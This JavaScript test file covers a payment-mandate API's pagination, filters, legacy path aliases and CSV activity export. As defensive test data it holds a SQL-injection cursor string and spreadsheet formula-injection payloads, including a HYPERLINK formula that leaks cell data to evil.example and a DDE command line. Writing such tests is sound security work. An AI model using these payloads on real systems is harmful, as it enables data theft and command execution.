// An owner's lists: page by page without gap or double, by filters, and as a file for a spreadsheet.
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { after, before, test } from "node:test";
import { start } from "../harness.mjs";
import { answered, assertProblem } from "./support/board.mjs";
import {
  DAY, VARS, act, ahead, ask, bytes32, evaluated, inMillis, mandateOf, party, paymentAt, usdc,
} from "./support/mandate.mjs";

const MANY = 130;

let stack;
let [owner, agent, provider] = [];
let mandate;
let path;
/** The payments of the large mandate, the newest first. */
const made = [];

before(async () => {
  stack = await start(VARS);
  [owner, agent, provider] = [party(), party(), party()];
  mandate = await mandateOf(stack, owner, agent, { policy: { dayCap: usdc(1000) } });
  path = `/v1/mandates/${mandate.mandate}`;
  await more(MANY);
});
after(() => stack?.stop());

/** Makes so many payments, ten at a time. */
async function more(count) {
  const { request: message } = await evaluated(stack, mandate, { recipient: provider.address, amount: "100" });
  for (let left = count; left > 0; left -= 10) {
    const sent = Array.from({ length: Math.min(10, left) }, () =>
      ask(stack, agent, "POST", `${path}/requests`, { request: { ...message, requestId: bytes32() } }));
    made.unshift(...(await Promise.all(sent.map(async (answer) => (await answered(await answer, 201)).payment))));
  }
}

/** Every row of a list, page by page; `between` happens after each page. */
async function all(name, where, limit, { account = owner, between = async () => {} } = {}) {
  const [rows, sizes] = [[], []];
  let cursor = null;
  do {
    const query = [where.includes("?") ? "&" : "?", `limit=${limit}`, cursor ? `&cursor=${cursor}` : ""].join("");
    const page = await answered(await ask(stack, account, "GET", `${where}${query}`), 200);
    rows.push(...page[name]);
    sizes.push(page[name].length);
    cursor = page.nextCursor;
    await between(sizes.length);
  } while (cursor !== null);
  return { rows, sizes };
}

const names = (rows) => rows.map(({ payment }) => payment);
const newestFirst = (rows, by) => rows.every((row, index) => index === 0 || rows[index - 1][by] >= row[by]);

test("every page begins where the one before ended, whatever its size, and whatever happens meanwhile", async () => {
  const lists = [["/v1/payments", "payments"], [`${path}/requests`, "requests"], [`/v1/payments?mandate=${mandate.mandate}`, "payments"]];
  for (const [where, name] of lists) {
    for (const [limit, sizes] of [[100, [100, 30]], [65, [65, 65]], [7, [...Array(18).fill(7), 4]]]) {
      const { rows, sizes: seen } = await all(name, where, limit);
      assert.deepEqual(seen, sizes, `${where} by ${limit}`);
      assert.deepEqual(names(rows).sort(), [...made].sort());
      assert.ok(newestFirst(rows, "requestedAt"), where);
    }
    const standard = await answered(await ask(stack, owner, "GET", where), 200);
    assert.equal(standard[name].length, 50);
    const { rows } = await all(name, where, 1, { between: async (pages) => assert.ok(pages <= MANY) });
    assert.equal(new Set(names(rows)).size, MANY);
  }
  const known = new Set(made);
  const { rows } = await all("payments", "/v1/payments", 40, { between: (page) => (page <= 2 ? more(5) : undefined) });
  assert.deepEqual(names(rows).sort(), [...known].sort(), "what comes meanwhile is above, and moves nothing");
  const { rows: lines } = await all("activity", "/v1/activity", 33);
  assert.equal(lines.length, MANY + 10 + 2);
  assert.deepEqual(lines.map(({ seq }) => seq), Array.from({ length: lines.length }, (_, index) => lines.length - index));
});

test("payments of one moment are in the order of their names, and none is left out at a page's end", async () => {
  const [its, itsAgent] = [party(), party()];
  const own = await mandateOf(stack, its, itsAgent);
  const payments = [];
  for (let count = 0; count < 9; count += 1) {
    payments.push((await paymentAt(stack, "escrowed", { owner: its, agent: itsAgent, provider, mandate: own, amount: "1" })).payment);
  }
  await stack.d1("UPDATE requests SET requested_at = 1 WHERE mandate_id = ?", own.mandate);
  await stack.d1("UPDATE activity SET at = 1 WHERE mandate_id = ?", own.mandate);
  const lists = [["/v1/payments", "payments"], [`/v1/mandates/${own.mandate}/requests`, "requests"], ["/v1/payments?progress=escrowed", "payments"]];
  for (const [where, name] of lists) {
    const { rows } = await all(name, where, 2, { account: its });
    assert.deepEqual(names(rows), payments.sort().reverse(), where);
  }
  const { rows } = await all("activity", "/v1/activity", 2, { account: its });
  assert.deepEqual(rows.map(({ seq }) => seq), [11, 10, 9, 8, 7, 6, 5, 4, 3, 2, 1]);
});

test("what each shows is what the payment itself says", async () => {
  const { payments: [first] } = await answered(await ask(stack, owner, "GET", "/v1/payments?limit=1"), 200);
  assert.deepEqual(first, await answered(await ask(stack, owner, "GET", `/v1/payments/${first.payment}`), 200));
  assert.deepEqual(first, await answered(await ask(stack, owner, "GET", `${path}/requests/${first.requestId}`), 200));
  const { mandates: [its] } = await answered(await ask(stack, owner, "GET", "/v1/mandates"), 200);
  assert.deepEqual(its, await answered(await ask(stack, owner, "GET", path), 200));
  const { mandates: [forAgent] } = await answered(await ask(stack, agent, "GET", "/v1/agent/mandates"), 200);
  assert.deepEqual(forAgent, await answered(await ask(stack, agent, "GET", path), 200));
});

test("the older paths are the same lists", async () => {
  const twins = [
    ["/api/mandates", "/v1/mandates"], ["/api/payments?limit=20", "/v1/payments?limit=20"], ["/api/approvals?status=all", "/v1/approvals?status=all"],
    ["/api/activity?kind=fund", "/v1/activity?kind=fund"], ["/api/activity?format=csv&kind=fund", "/v1/activity?format=csv&kind=fund"],
    ["/api/agents", "/v1/agents"], ["/api/mandates/draft", "/v1/drafts"], ["/api/status", "/v1/status"],
    [`/api/mandates/${mandate.mandate}`, path], [`/api/payments/${made[0]}`, `/v1/payments/${made[0]}`],
  ];
  for (const [older, newer] of twins) {
    const texts = await Promise.all([older, newer].map(async (where) => (await ask(stack, owner, "GET", where)).text()));
    assert.equal(texts[0], texts[1], older);
    assert.ok(texts[0].length > 2 && !texts[0].includes("problems/"), texts[0]);
  }
  const mine = await Promise.all(["/api", "/v1"].map(async (base) => (await ask(stack, agent, "GET", `${base}/agent/mandates`)).text()));
  assert.equal(mine[0], mine[1]);
});

test("a cursor of another sort of list, or of nobody's making, is refused", async () => {
  const cursorOf = async (where) => (await answered(await ask(stack, owner, "GET", `${where}?limit=1`), 200)).nextCursor;
  const [payments, activity] = [await cursorOf("/v1/payments"), await cursorOf("/v1/activity")];
  const forged = (text) => Buffer.from(text).toString("base64url");
  const tries = [
    ["/v1/activity", payments], ["/v1/payments", activity], ["/v1/mandates", activity], ["/v1/approvals", activity], [`${path}/requests`, activity],
    ["/v1/agent/mandates", activity], [`${path}/entries`, payments],
    ...["", "x", "0", `${payments}A`, payments.slice(1)].map((cursor) => ["/v1/payments", cursor]),
    ...["1.x", `9007199254740992.${made[0]}`, `-1.${made[0]}`, "1.' OR 1=1 --"].map((text) => ["/v1/payments", forged(text)]),
  ];
  for (const [where, cursor] of tries) {
    const answer = await ask(stack, owner, "GET", `${where}?cursor=${encodeURIComponent(cursor)}`);
    const { errors } = await assertProblem(answer, 400, "malformed", `${where} ${cursor}`);
    assert.deepEqual(errors.map(({ field }) => field), ["cursor"]);
  }
  const queries = [
    "limit=0", "limit=101", "limit=ten", "limit=-1", "page=2", "progress=paid", "progress=ESCROWED", "mandate=0x12", "limit=1&limit=1",
  ];
  for (const query of queries) {
    const answer = await ask(stack, owner, "GET", `/v1/payments?${query}`);
    const { errors } = await assertProblem(answer, 400, "malformed", query);
    assert.equal(errors[0].field, query.split("=")[0], query);
  }
});

/** Another owner, whose few payments stand everywhere. */
async function various() {
  const [its, itsAgent] = [party(), party()];
  const [first, second] = [await mandateOf(stack, its, itsAgent), await mandateOf(stack, its, itsAgent, { label: "Second" })];
  const stages = ["waiting", "approved", "escrowed", "delivered", "disputed", "settled"];
  const payments = {};
  for (const stage of stages) payments[stage] = await paymentAt(stack, stage, { owner: its, agent: itsAgent, provider, mandate: first });
  payments.second = await paymentAt(stack, "escrowed", { owner: its, agent: itsAgent, provider, mandate: second });
  const list = async (where) => answered(await ask(stack, its, "GET", where), 200);
  return { its, itsAgent, first, second, payments, list };
}

test("payments and activity are found by where they stand, what was done, by mandate and by time", async () => {
  const { first, second, payments, list } = await various();
  const standing = async (query) => names((await list(`/v1/payments?${query}`)).payments);
  const words = { waiting: "awaiting_approval", approved: "approved", delivered: "delivered", disputed: "disputed", settled: "settled" };
  for (const [stage, word] of Object.entries(words)) assert.deepEqual(await standing(`progress=${word}`), [payments[stage].payment], word);
  const escrowed = [payments.second.payment, payments.escrowed.payment];
  assert.deepEqual(await standing("progress=escrowed"), escrowed);
  assert.deepEqual(await standing(`progress=escrowed&mandate=${first.mandate.toUpperCase().replace("0X", "0x")}`), [payments.escrowed.payment]);
  assert.deepEqual(await standing(`mandate=${second.mandate}`), [payments.second.payment]);
  assert.deepEqual(await standing("progress=voided"), []);

  const { activity } = await list("/v1/activity?limit=100");
  const by = async (query, keep) => assert.deepEqual((await list(`/v1/activity?limit=100&${query}`)).activity, activity.filter(keep), query);
  assert.ok(activity.length > 15);
  for (const kind of ["create", "fund", "request", "approve", "deliver", "dispute", "accept"]) {
    assert.ok(activity.some((line) => line.kind === kind), kind);
    await by(`kind=${kind}`, (line) => line.kind === kind);
  }
  for (const result of ["done", "escrowed", "awaiting_approval", "settled"]) await by(`result=${result}`, (line) => line.result === result);
  await by(`mandate=${second.mandate}`, (line) => line.mandate === second.mandate);
  const isFirst = (line) => line.mandate === first.mandate;
  await by(`mandate=${first.mandate}&kind=request&result=escrowed`, (line) => isFirst(line) && line.kind === "request" && line.result === "escrowed");
  const [from, to] = [activity.at(-4).at, activity[3].at];
  await by(`from=${from}&to=${to}`, ({ at }) => at >= from && at < to);
  await by(`from=${from}&kind=request`, ({ at, kind }) => at >= from && kind === "request");
  await by(`to=${to}&mandate=${first.mandate}`, (line) => line.at < to && isFirst(line));
  const wrong = ["kind=payment", "result=fine", "from=yesterday", `from=${to}&to=${from}`, `from=${to}&to=${to}`, "format=xml", "format=csv&limit=3", "who=me"];
  for (const query of wrong) {
    await assertProblem(await ask(stack, owner, "GET", `/v1/activity?${query}`), 400, "malformed", query);
  }
});

test("mandates are found by how they stand, by the reader's clock; an agent sees those it may spend from", async () => {
  const [its, itsAgent] = [party(), party()];
  const made = {};
  for (const status of ["active", "paused", "revoked", "expired"]) {
    const validBefore = status === "expired" ? inMillis(5 * DAY) : inMillis(30 * DAY);
    made[status] = (await mandateOf(stack, its, itsAgent, { policy: { validBefore } })).mandate;
  }
  const post = (id, verb) => ask(stack, its, "POST", `/v1/mandates/${id}/${verb}`);
  assert.equal((await post(made.paused, "pause")).status, 200);
  assert.equal((await post(made.revoked, "revoke")).status, 200);
  const ids = async (where, account = its) => (await answered(await ask(stack, account, "GET", where), 200)).mandates.map((one) => one.mandate);
  assert.deepEqual(await ids("/v1/mandates"), [made.expired, made.revoked, made.paused, made.active]);
  assert.deepEqual(await ids("/v1/mandates?status=active"), [made.expired, made.active]);
  assert.deepEqual(await ids("/v1/agent/mandates", itsAgent), [made.expired, made.active]);
  try {
    await ahead(stack, 6 * DAY);
    for (const [status, id] of Object.entries(made)) assert.deepEqual(await ids(`/v1/mandates?status=${status}`), [id], status);
    assert.deepEqual(await ids("/v1/agent/mandates", itsAgent), [made.active]);
    const { mandates } = await answered(await ask(stack, its, "GET", "/v1/mandates?status=expired"), 200);
    assert.equal(mandates[0].status, "expired");
  } finally {
    await ahead(stack, 0);
  }
});

/** What a spreadsheet's reader makes of a file: rows of cells. */
function parsed(csv) {
  const program = `import csv, io, json, sys
text = io.StringIO(sys.stdin.buffer.read().decode(), newline="")
print(json.dumps(list(csv.reader(text, strict=True))))`;
  const python = process.env.GUILDHALL_PYTHON ?? "python3";
  const { stdout, stderr, status } = spawnSync(python, ["-c", program], { input: csv, encoding: "utf8" });
  assert.equal(status, 0, stderr);
  return JSON.parse(stdout);
}

const NOTES = [
  "=HYPERLINK(\"https://evil.example?x=\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1",
  "  =1+1", "\u00a0=1", "\ufeff=1", "＝1+1", "a \"quoted\" word, and a comma", "two\nlines", "two\r\nlines", "'already", "\"", ",",
  "é ü 漢字 🦀", "x\u0000y", " ",
];

test("activity is a file that a spreadsheet reads back as it is and runs nothing of", async () => {
  const [its, itsAgent] = [party(), party()];
  const own = await mandateOf(stack, its, itsAgent, { policy: { dayCap: usdc(1000) }, funds: usdc(1000) });
  for (const note of NOTES) {
    const payment = await paymentAt(stack, "waiting", { owner: its, agent: itsAgent, provider, mandate: own });
    assert.equal((await answered(await act(stack, its, payment, "reject", { note }), 200)).note, note);
  }
  const answer = await ask(stack, its, "GET", "/v1/activity?format=csv");
  assert.equal(answer.status, 200);
  assert.match(answer.headers.get("content-type"), /^text\/csv; charset=utf-8; header=present$/);
  assert.match(answer.headers.get("content-disposition"), /^attachment; filename="activity\.csv"$/);
  assert.equal(answer.headers.get("cache-control"), "no-store");
  const csv = await answer.text();
  assert.ok(csv.endsWith("\r\n"));
  const [header, ...rows] = parsed(csv);
  const { rows: lines } = await all("activity", "/v1/activity", 100, { account: its });
  assert.deepEqual(header, Object.keys(lines[0]));
  assert.equal(rows.length, lines.length);
  rows.forEach((row, index) => row.forEach((cell, column) => {
    const value = `${lines[index][header[column]] ?? ""}`;
    assert.ok([value, `'${value}`].includes(cell), JSON.stringify([cell, value]));
    assert.doesNotMatch(cell, /^[\s\ufeff\u0000]*[=+\-@＝＋－＠]|^[\t\r\n]/, JSON.stringify(cell));
  }));
  const reasons = rows.filter((row) => row[header.indexOf("kind")] === "reject").map((row) => row[header.indexOf("reason")]);
  assert.deepEqual(reasons.map((cell) => cell.replace(/^'(?!already)/, "")).reverse(), NOTES);
  const some = parsed(await (await ask(stack, its, "GET", `/v1/activity?format=csv&kind=fund`)).text());
  assert.deepEqual(some.slice(1), rows.filter((row) => row[header.indexOf("kind")] === "fund"));
  const large = parsed(await (await ask(stack, owner, "GET", "/v1/activity?format=csv")).text());
  assert.equal(large.length, made.length + 3);
});
